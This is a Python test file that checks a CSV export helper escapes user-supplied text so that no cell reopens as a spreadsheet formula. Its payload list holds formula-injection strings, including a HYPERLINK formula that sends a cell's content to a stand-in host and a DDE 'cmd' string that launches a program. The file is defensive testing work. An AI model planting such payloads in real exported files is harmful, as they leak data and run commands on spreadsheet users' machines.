"""P6: what people wrote leaves for a spreadsheet as words; after reading it again no cell is a formula."""

import csv
import unicodedata
from datetime import UTC, datetime
from io import StringIO

import pytest

from gateways.csv_text import BOM, cells, written

BEFORE = [
    *("", " ", "\t", "\r", "\n", "\r\n", "\u3000", "\xa0", "\u200b", "\ufeff", "\x00", "\x0b", "\x1b"),
    *("\u2028", "\u202e", "\ud800", " \t "),
]
SIGNS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼"]
TAILS = [
    'HYPERLINK("http://192.0.2.1/"&A1,"点此")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(A1:A9)",
    '2;"=1+1"\n=1+1',
]
PAYLOADS = [before + sign + tail for before in BEFORE for sign in SIGNS for tail in TAILS]
MEANT_FOR_NOBODY = "=+-@\t\r\n|%"


def reopened(content: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(content.decode("utf-8").removeprefix(BOM), newline="")))


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 500


def test_no_payload_is_a_formula_after_it_is_opened_again() -> None:
    rows = reopened(written([["标题", "意见"], *([one, f"甲{one}"] for one in PAYLOADS)]))
    assert len(rows) == len(PAYLOADS) + 1, "no payload makes a row of its own"
    for row in rows[1:]:
        assert len(row) == 2
        begins = unicodedata.normalize("NFKC", row[0])[:1]
        assert begins == "'", ascii(row[0])
        assert begins not in MEANT_FOR_NOBODY


@pytest.mark.parametrize(
    "words",
    ["关于冬季消防的通知", "医办〔2026〕7号", "2026-11-22 10:31", "", "甲=乙", "100%", "《通知》（一）"],
)
def test_what_an_office_writes_is_left_as_it_is(words: str) -> None:
    assert cells([words]) == [words]


def test_numbers_moments_and_nothing_are_words_too() -> None:
    assert cells([7, None, datetime(2026, 11, 22, tzinfo=UTC), "'0"]) == [
        "7", "", "2026-11-22 00:00:00+00:00", "''0",
    ]  # fmt: skip
    assert cells([-7]) == ["'-7"]
